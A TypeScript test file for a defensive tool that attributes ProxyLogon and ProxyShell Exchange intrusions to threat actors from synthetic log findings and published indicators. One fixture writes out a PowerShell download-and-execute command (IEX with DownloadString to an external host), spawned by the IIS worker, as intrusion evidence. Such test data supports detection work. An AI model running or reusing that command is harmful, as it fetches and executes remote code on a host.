import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { before, describe, it } from 'node:test'
import { fileURLToPath } from 'node:url'
import { actorFacts } from '../../src/knowledge/actors.ts'
import {
  type Attribution,
  actorsOf,
  bands,
  chanceLimits,
  odds,
  wordsFor,
} from '../../src/assessment/attribution/attribution.ts'
import type { FindingWithHits } from '../../src/findings/findings.ts'
import { decodeEncodedText } from '../../src/evidence/encoded.ts'
import { likelihoods } from '../../src/model/actor.ts'
import { type Intrusion } from '../../src/model/finding.ts'
import { type Stage } from '../../src/model/stages.ts'
import { type Event, type Fields } from '../../src/model/event.ts'
import { type Knowledge, loadKnowledge, ruleName } from '../../src/knowledge/load-packs.ts'

const root = fileURLToPath(new URL('../../', import.meta.url))
const page = readFileSync(`${root}docs/use/attribution.md`, 'utf8')
const sentences = page.replaceAll(/\s+/g, ' ')

let knowledge: Knowledge
let ruleNames: ReadonlyMap<string, string>
before(async () => {
  knowledge = await loadKnowledge({ packs: [`${root}packs`], rules: [], iocs: [] })
  ruleNames = new Map([...knowledge.infos].map(([id, info]) => [id, ruleName(info)]))
})

// ---------------------------------------------------------------- examples

/** One thing that was found: the rule by its name, a stage, when, and what its row says. */
type Thing = {
  readonly rule: string
  readonly stage: Stage
  readonly at: string
  readonly fields?: Fields
  readonly category?: string
  readonly client?: string
  readonly basis?: Event['timeBasis']
}
type Story = { readonly campaign?: string; readonly client?: string; readonly things: readonly Thing[] }
type Example = { readonly stories: readonly Story[]; readonly sector?: string }

const intruder = '203.0.113.177'
const service = 'NT AUTHORITY\\SYSTEM'

/** The way in and a shell. */
function shell(day: string): Thing[] {
  return [
    { rule: 'ssrf-proxylogon-session', stage: 'access', at: `${day}T04:23:22Z`, client: intruder },
    { rule: 'vdir-url-markup', stage: 'write', at: `${day}T04:23:30Z` },
    { rule: 'Postern_Evaluates_Request', stage: 'shell', at: `${day}T04:23:40Z` },
  ]
}
const commands = (day: string): Thing => ({ rule: 'w3wp-command', stage: 'execution', at: `${day}T04:25:02Z` })
const listed = (way: string): string => `ioc-proxylogon-2021-iocs-${way}`

function called(day: string, host: string, more: Fields = {}): Thing {
  const fields = { QueryName: host, Image: 'C:\\Windows\\System32\\rundll32.exe', User: service, ...more }
  return { rule: listed('outbound'), stage: 'execution', at: `${day}T05:10:40Z`, category: 'dns_query', fields }
}
function program(day: string, digest: string, kind = 'SHA1', basis: Event['timeBasis'] = 'format'): Thing {
  const fields = { Hashes: `MD5=${'0'.repeat(32)},${kind}=${digest.toUpperCase()}` }
  return { rule: listed('hash'), stage: 'shell', at: `${day}T05:09:00Z`, category: 'process_creation', fields, basis }
}
function command(day: string, line: string, parent: string): Thing {
  const fields = { CommandLine: line, ParentImage: parent, Image: 'C:\\Windows\\System32\\cmd.exe' }
  return { rule: listed('outbound'), stage: 'execution', at: `${day}T05:11:00Z`, category: 'process_creation', fields }
}
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const exchange = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\'
const worker = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'
const loader = '30dd3076ec9abb13c15053234c436406b88fb2b9'
const uploader = '893cd3583b49cb706b3e55ecb2ed0757b977a21f5c72e041392d1256f31166e2'
const one = (...things: readonly Thing[]): Example => ({ stories: [{ things }] })

const march = '2021-03-03'
const january = '2021-01-10'
const attackShells = [
  ...shell(january),
  program(january, uploader, 'SHA256'),
  { rule: 'Postern_Shell_Cookie_Fqrspt', stage: 'shell', at: `${january}T05:00:00Z` } as const,
]

/** By the names that the table of docs/use/attribution.md has for them. */
const examples: Readonly<Record<string, Example>> = {
  chopper: one(...shell(march), commands(march)),
  'scan-and-shell': one(...shell(march)),
  january: one(
    { rule: 'ssrf-ews-collection', stage: 'collection', at: `${january}T04:30:00Z`, client: intruder },
    ...shell(january).slice(0, 1),
  ),
  'own-host': one(...shell(march), called(march, 'WWW.Yolkish.COM.')),
  'host-and-digest': one(...shell(march), called(march, 'yolkish.com'), program(march, loader)),
  'before-the-updates': one(...shell('2021-02-28'), called('2021-02-28', 'www.averyspace.net')),
  'called-by-command': one(
    ...shell('2021-03-05'),
    command(
      '2021-03-05',
      "cmd /c powershell IEX(New-Object Net.WebClient).DownloadString('http://p.estonine.com/p?e')",
      worker,
    ),
  ),
  'too-early': one(...shell('2021-01-20'), called('2021-01-20', 'www.averyspace.net')),
  'too-late': one(...shell('2021-11-25'), called('2021-11-25', 'yolkish.com')),
  'other-way-in': {
    stories: [
      {
        campaign: 'proxyshell-2021',
        things: [
          { rule: 'confusion-powershell-answered', stage: 'access', at: '2021-05-20T04:00:00Z', client: intruder },
          called('2021-05-20', 'yolkish.com'),
        ],
      },
    ],
  },
  'no-way-in': one(program(march, loader)),
  'set-time': one(...shell(march), program(march, loader, 'SHA1', 'file')),
  'looked-up': one(...shell(march), called(march, 'yolkish.com', { Image: 'C:\\Windows\\System32\\nslookup.exe' })),
  'looked-into': one(...shell(march), called(march, 'yolkish.com', { Image: powershell, User: 'CONTOSO\\a.diaz' })),
  'mail-looked-up': one(...shell(march), called(march, 'yolkish.com', { Image: `${exchange}EdgeTransport.exe` })),
  'request-called': one(...shell(march), called(march, 'yolkish.com', { Image: worker })),
  'sample-on-disk': one(...shell(march), { ...program(march, loader), category: 'create_stream_hash' }),
  'written-down': one(
    ...shell(march),
    command(march, 'netsh advfirewall firewall add rule name="yolkish.com" dir=out action=block', powershell),
  ),
  'list-looked-up': one(
    ...shell(march),
    ...['yolkish.com', 'www.averyspace.net', 'lab.symantecsafe.org'].map((host) =>
      called(march, host, { Image: powershell }),
    ),
  ),
  'two-stories': {
    stories: [
      { things: [...shell(march), called(march, 'yolkish.com')] },
      {
        client: '198.51.100.241',
        things: [
          ...shell('2021-03-07').map((thing) => ({ ...thing, client: '198.51.100.241' })),
          called('2021-03-07', 'p.estonine.com'),
        ],
      },
    ],
  },
  claimed: one(
    ...shell(march).map((thing) => ({
      ...thing,
      fields: { 'cs-user-agent': 'HAFNIUM', 'cs-uri-stem': '/aspnet_client/dukybySSSS.aspx' },
    })),
    {
      rule: listed('named-in-request'),
      stage: 'attempt',
      at: `${march}T04:23:25Z`,
      category: 'webserver',
      fields: { SsrfHost: 'yolkish.com', 'cs-referer': 'http://rawfuns.com/' },
    },
    commands(march),
  ),
  'early-address': {
    stories: [
      {
        client: '103.77.192.219',
        things: [...shell(january).map((thing) => ({ ...thing, client: '103.77.192.219' })), commands(january)],
      },
    ],
  },
  'attack-shells': one(...attackShells),
  'page-name': one(...shell(march), commands(march), {
    rule: listed('file'),
    stage: 'shell',
    at: `${march}T04:23:41Z`,
    category: 'file_event',
    fields: { TargetFilename: 'c:\\Inetpub\\wwwroot\\aspnet_client\\DUKYBYSSSS.aspx' },
  }),
  'rented-address': one(...shell(march), {
    ...called(march, ''),
    category: 'network_connection',
    fields: { DestinationIp: '86.105.18.116', Image: 'C:\\Windows\\System32\\rundll32.exe' },
  }),
  'service-ransomware': {
    stories: [
      {
        campaign: 'proxyshell-2021',
        things: [
          { rule: 'confusion-powershell-answered', stage: 'access', at: '2021-08-20T04:00:00Z', client: intruder },
          program('2021-08-20', 'e6212e7d74f315fa4638e32ab775fb1b57ef55071d179676330bbad4dc102a57', 'SHA256'),
          called('2021-08-20', 'smartdata.su'),
        ],
      },
    ],
  },
  'sector-alone': { ...one(...shell(march), commands(march)), sector: 'government' },
  'sector-fits': { ...one(...attackShells), sector: 'Higher  Education' },
}

function weighed({ stories, sector }: Example): Attribution {
  const found = stories.flatMap(({ things }, story) =>
    things.map((thing, i) => foundOf(thing, `c${story}`, `f${story}-${i}`)),
  )
  const intrusions: Intrusion[] = stories.map(({ campaign, client, things }, story) => ({
    id: `c${story}`,
    campaign: campaign ?? 'proxylogon-2021',
    clients: things.some((thing) => thing.client) ? [client ?? intruder] : [],
    first: things.map(({ at }) => at).sort()[0]!,
    last: things
      .map(({ at }) => at)
      .sort()
      .at(-1)!,
    stages: [],
    findings: [],
    attackChain: [],
    joinedBy: ['request id', 'time after the intrusion'],
    actors: [],
  }))
  return actorsOf(intrusions, found, {
    campaigns: knowledge.campaigns,
    facts: knowledge.actors,
    ruleNames,
    sector: sector ?? null,
  })
}

function foundOf(thing: Thing, intrusion: string, id: string): FindingWithHits {
  const event: Event = {
    log: 'windows-sysmon',
    sources: thing.category === undefined ? [] : [{ category: thing.category }],
    time: Date.parse(thing.at),
    timeBasis: thing.basis ?? 'format',
    fields: thing.fields ?? {},
    raw: '',
    at: { path: 'log', offset: 0, length: 1 },
    host: null,
    client: thing.client ?? null,
    user: null,
    target: null,
    request: null,
    session: null,
  }
  return {
    counts: true,
    hits: [{ rule: thing.rule, matched: [], event }],
    finding: {
      id,
      rule: [...ruleNames].find(([, name]) => name === thing.rule)?.[0] ?? assert.fail(`no rule ${thing.rule}`),
      title: '',
      author: '',
      license: '',
      pack: '',
      campaign: 'proxylogon-2021',
      stage: thing.stage,
      sign: { subject: 'request', kind: 'content', strength: 'decisive' },
      level: 'high',
      confidence: 'high',
      is: 'yes',
      time: thing.at,
      timeBasis: thing.basis ?? 'format',
      client: thing.client ?? null,
      user: null,
      target: null,
      log: 'windows-sysmon',
      host: null,
      cves: [],
      attack: [],
      falsePositives: [],
      nextSteps: [],
      count: 1,
      first: thing.at,
      last: thing.at,
      locators: [],
      intrusion,
      notes: [],
      facts: {},
      persistence: null,
      accessMethod: null,
    },
  }
}

/** Rows of a table of the page, under the head that begins so. */
function rows(head: string): string[][] {
  const lines = page.split('\n')
  const at = lines.findIndex((line) => line.startsWith(`| ${head} |`))
  assert.notEqual(at, -1, head)
  const end = lines.findIndex((line, i) => i > at && !line.startsWith('|'))
  return lines.slice(at + 2, end).map((line) =>
    line
      .split('|')
      .slice(1, -1)
      .map((cell) => cell.trim()),
  )
}

/** The worked examples of the page: a list item each, with who is named and how likely below it. */
const worked = [
  ...page.matchAll(/^- ([a-z-]+)\n {2}- what was found: [^]*?\n {2}- named: (.*)\n {2}- how likely: (.*)$/gm),
].map(([, name = '', named = '', how = '']) => ({ name, named, how }))

void describe('the worked examples of docs/use/attribution.md', () => {
  for (const { name, named, how } of worked) {
    void it(`${name}: ${named}`, () => {
      const { actors, attribution } = weighed(examples[name] ?? assert.fail(`no example ${name}`))
      const short = (actor: string): string => actor.replace(/ \(.*|, .*/s, '')
      const is = actors.filter((actor) => actor.named).map(({ actor }) => short(actor))
      assert.deepEqual(is.sort(), named === 'none' ? [] : named.split(', '))
      const [who, words] = how.split(': ') as [string, string]
      assert.equal(actors.find(({ actor }) => actor.startsWith(who))?.words ?? 'not weighed', words)
      assert.match(attribution[0]!, named === 'none' ? /^No actor is named\./ : /^Named: /)
      assert.ok(actors.some(({ actor }) => actor === 'mass exploitation, actor unknown'))
    })
  }
  void it('are all on the page', () => {
    assert.deepEqual(new Set(worked.map(({ name }) => name)), new Set(Object.keys(examples)))
  })
})

void describe('a name', () => {
  void it('is never given on what a request brings, or on what many use', () => {
    for (const name of ['chopper', 'claimed', 'early-address', 'sector-alone'])
      assert.deepEqual(
        weighed(examples[name]!).actors.map(({ references }) => references.length),
        [0, 0],
        name,
      )
  })
  void it('has reasons for and against, and its reports', () => {
    for (const example of Object.values(examples))
      for (const { actor, references, supporting, contradicting } of weighed(example).actors.filter(
        ({ references }) => references.length > 0,
      )) {
        assert.ok(supporting.length > 0 && contradicting.length > 0, actor)
        assert.ok(references.every((url) => url.startsWith('https://')))
      }
  })
  void it('is of the story that shows it, and of no other', () => {
    const { actors } = weighed(examples['two-stories']!)
    assert.deepEqual(
      actors.filter(({ named }) => named).map(({ actor, intrusions }) => [actor.slice(0, 7), intrusions]),
      [
        ['Calypso', ['c0']],
        ['DLTMine', ['c1']],
      ],
    )
  })
  void it('says that it is joined by time alone, where it is', () => {
    const calypso = weighed(examples['own-host']!).actors.find(({ named }) => named)
    assert.ok(calypso?.contradicting.some((reason) => reason.includes('by time alone')))
  })
  void it('comes with what it means and does not mean, as does its absence', () => {
    for (const example of Object.values(examples)) {
      const text = weighed(example).attribution.join(' ')
      assert.match(text, /does not say which person, organization or state/)
      assert.match(text, /no finding of fact/)
    }
  })
  void it('is wanted of no server without a story', () => {
    assert.deepEqual(weighed({ stories: [] }), { actors: [], attribution: [] })
  })
})

void describe('the sector', () => {
  void it('counts weakly, and says so', () => {
    const tick = (sector: string): string[] => {
      const actor = weighed({ ...examples['before-the-updates']!, sector }).actors.find(({ named }) => named)!
      return [...actor.supporting, ...actor.contradicting].filter((reason) => reason.startsWith('weak:'))
    }
    assert.deepEqual(tick('IT services'), ['weak: victims in the sector it-services are in the reports'])
    assert.deepEqual(tick('hospitality'), ['weak: the reports name victims in other sectors (it-services)'])
  })
  void it('makes no name and takes none away', () => {
    for (const example of Object.values(examples))
      for (const sector of ['it-services', 'government', 'fishing'])
        assert.deepEqual(
          weighed({ ...example, sector })
            .actors.filter(({ named }) => named)
            .map(({ actor }) => actor),
          weighed({ stories: example.stories })
            .actors.filter(({ named }) => named)
            .map(({ actor }) => actor),
        )
  })
  void it('moves a likelihood that is near the edge of a band to the next, and names nobody by it', () => {
    const pages = one(
      ...shell(march),
      commands(march),
      ...attackShells.slice(-2).map((thing) => ({ ...thing, at: `${march}T05:00:00Z` })),
    )
    const hafnium = (sector?: string): unknown => {
      const { actors } = weighed(sector === undefined ? pages : { ...pages, sector })
      const actor = actors.find((one) => one.actor.startsWith('HAFNIUM'))
      return [actor?.words, actor?.named]
    }
    assert.deepEqual(hafnium(), ['very unlikely', false])
    assert.deepEqual(hafnium('fishing'), ['very unlikely', false])
    assert.deepEqual(hafnium('NGO'), ['unlikely', false])
  })
  void it('that nobody has is said to have changed nothing', () => {
    assert.match(weighed(examples['sector-alone']!).attribution.join(' '), /\(government\) changed nothing/)
  })
})

void describe('the numbers', () => {
  void it('are those of docs/use/attribution.md', () => {
    const numbers = (text: string): number[] => (text.match(/\d+(?:\.\d+)?/g) ?? []).map(Number)
    const { mass } = odds
    assert.deepEqual(
      rows('odds').map((row) => numbers(row.at(-1)!)),
      [
        [mass.few, mass.some, mass.many, mass.all],
        [odds.byHand, odds.automatic],
        [odds.actor],
        [odds.exclusive],
        [odds.distinctive],
        [odds.outOfTime],
        [odds.sectorFits, odds.sectorDiffers],
      ],
    )
    assert.deepEqual(
      rows('limits').map((row) => Number(row.at(-1))),
      [chanceLimits.unnamed, chanceLimits.named, chanceLimits.corroborated],
    )
    for (const [i, words] of likelihoods.entries())
      assert.ok(
        sentences.includes(i === 6 ? `${words} (above)` : `${words} (${i === 0 ? 'up to' : 'to'} ${bands[i]})`),
        words,
      )
  })
  void it('have the words of ICD 203', () => {
    for (const [chance, words] of [
      [0, 'almost no chance'],
      [5, 'almost no chance'],
      [5.1, 'very unlikely'],
      [20, 'very unlikely'],
      [45, 'unlikely'],
      [46, 'roughly even chance'],
      [55, 'roughly even chance'],
      [56, 'likely'],
      [80, 'likely'],
      [95, 'very likely'],
      [96, 'almost certain'],
    ] as const)
      assert.equal(wordsFor(chance), words)
  })
})

void describe('actors.yml', () => {
  const broken =
    (actors: unknown): (() => unknown) =>
    () =>
      actorFacts('pack', actors, 'actors.yml')
  const actor = {
    id: 'a',
    name: 'A',
    seen: { from: '2021-03-01', to: '2021-04-01' },
    references: ['https://reports.example/a'],
    traces: [
      {
        kind: 'called',
        weight: 'exclusive',
        what: 'host',
        values: ['c2.example'],
        source: 'https://reports.example/a',
      },
    ],
  }
  const trace = (change: object): object => ({ actors: [{ ...actor, traces: [{ ...actor.traces[0], ...change }] }] })

  void it('may be as it is in the documentation', () => {
    assert.equal(actorFacts('pack', { actors: [actor] }, 'actors.yml').actors[0]!.id, 'a')
  })
  void it('cannot make exclusive what anybody can have or send', () => {
    for (const kind of ['file', 'client', 'rule']) assert.throws(broken(trace({ kind })), /cannot be exclusive/)
    assert.throws(broken(trace({ values: ['198.51.100.7'] })), /an address cannot be exclusive/)
    assert.throws(broken(trace({ values: ['2001:db8::7'] })), /an address cannot be exclusive/)
  })
  void it('says what is wrong with it in a sentence', () => {
    assert.throws(broken(trace({ kind: 'agent' })), /kind must be one of/)
    assert.throws(broken(trace({ weight: 'sure' })), /weight must be one of/)
    assert.throws(broken(trace({ values: [] })), /has no values/)
    assert.throws(broken(trace({ source: undefined })), /source must be a text, and it is missing/)
    assert.throws(broken({ actors: [{ ...actor, references: [] }] }), /must have references/)
    assert.throws(broken({ actors: [{ ...actor, seen: { from: 'spring', to: '2021-04-01' } }] }), /must be a day/)
    assert.throws(broken({ actors: {} }), /must be a list/)
    assert.throws(
      broken({
        phases: [
          { from: '2021-03-02', hands: 'all', what: 'x' },
          { from: '2021-03-01', hands: 'few', what: 'y' },
        ],
      }),
      /order of time/,
    )
  })
  void it('of every pack names what the lists of the packs find, and rules that there are', () => {
    const rules = new Set(ruleNames.values())
    const lists = knowledge.packs.map(({ pack }) => {
      const file = `${root}packs/${pack}/iocs.csv`
      if (existsSync(file)) return readFileSync(file, 'utf8').toLowerCase()
      return existsSync(`${file}.enc`)
        ? decodeEncodedText(readFileSync(`${file}.enc`, 'latin1'))
            .toString()
            .toLowerCase()
        : ''
    })
    const wanted = (value: string): boolean => {
      const end = value.toLowerCase().replace(/^c:\\inetpub\\wwwroot\\/, '')
      return lists.some((list) => list.includes(`,${end},`) || list.includes(`,${value.toLowerCase()},`))
    }
    for (const { actors, shared } of knowledge.actors) {
      for (const { rules: names } of shared) for (const name of names) assert.ok(rules.has(name), name)
      for (const { traces } of actors)
        for (const { kind, values } of traces)
          for (const value of values) assert.ok(kind === 'rule' ? rules.has(value) : wanted(value), `${kind} ${value}`)
    }
  })
})
